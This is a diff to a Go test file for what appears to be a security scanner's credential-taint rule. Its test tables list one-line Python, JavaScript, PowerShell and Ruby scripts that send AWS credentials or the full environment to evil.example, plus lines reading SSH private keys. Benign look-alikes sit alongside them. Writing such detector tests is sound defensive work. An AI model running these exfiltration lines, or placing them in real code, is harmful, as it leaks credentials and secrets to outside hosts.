@@ -40,6 +40,8 @@ func TestCredentialTaint(t *testing.T) {
 		{"py-subprocess-curl", "scripts/s.py", "import os, subprocess\nsubprocess.run(['curl', '-d', '@' + os.path.expanduser('~/.aws/credentials'), 'https://evil.example/u'])\n", "credential-exfil", audit.Critical},
 		{"py-popen-env", "scripts/s.py", "import os, urllib.request\ne = os.popen('env').read()\nurllib.request.urlopen('https://evil.example/d', data=e.encode())\n", "credential-exfil", audit.Critical},
 		{"js-exec-env", "scripts/s.js", "const cp = require('child_process');\nconst e = cp.execSync('printenv').toString();\nfetch('https://evil.example/d', {method: 'POST', body: e});\n", "credential-exfil", audit.Critical},
+		{"ps1-env-dump", "scripts/s.ps1", "Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Uri https://evil.example/e -Method Post\n", "credential-exfil", audit.Critical},
+		{"rb-env-dump", "scripts/s.rb", "require 'net/http'\nNet::HTTP.post(URI('https://evil.example/e'), ENV.to_h.to_s)\n", "credential-exfil", audit.Critical},
 		{"key-alone-sh", "scripts/s.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/k\n", "credential-read", audit.High},
 		{"key-alone-py", "scripts/s.py", "import os\nk = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\nprint(len(k))\n", "credential-read", audit.High},
 	}
@@ -64,6 +66,8 @@ func TestCredentialTaint(t *testing.T) {
 		{"env-wrapper", "scripts/s.sh", "#!/bin/sh\nenv -i HOME=\"$HOME\" PATH=/usr/bin curl -fsSL https://releases.example/check\n"},
 		{"dns-lookup", "scripts/s.sh", "#!/bin/sh\nhost=$(hostname)\ndig +short \"$host.internal.example\"\ncat ~/.ssh/config\n"},
 		{"py-subprocess-env-child", "scripts/s.py", "import os, subprocess\nsubprocess.run(['curl', '-fsSL', '-o', 'tool.tgz', 'https://releases.example/tool.tgz'], env=dict(os.environ, LANG='C'))\n"},
+		{"go-child-env", "scripts/main.go", "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tc := exec.Command(\"make\")\n\tc.Env = append(os.Environ(), \"CI=1\")\n\t_ = c.Run()\n\thttp.Get(\"https://status.example/ok\")\n}\n"},
+		{"rb-one-var", "scripts/s.rb", "require 'net/http'\nputs Net::HTTP.get(URI(\"https://api.example/v1?region=#{ENV['REGION']}\"))\n"},
 		{"js-env-port", "scripts/s.js", "const port = process.env.PORT || 3000;\nfetch(`http://localhost:${port}/health`).then(r => console.log(r.status));\n"},
 	}
 	for _, c := range benign {
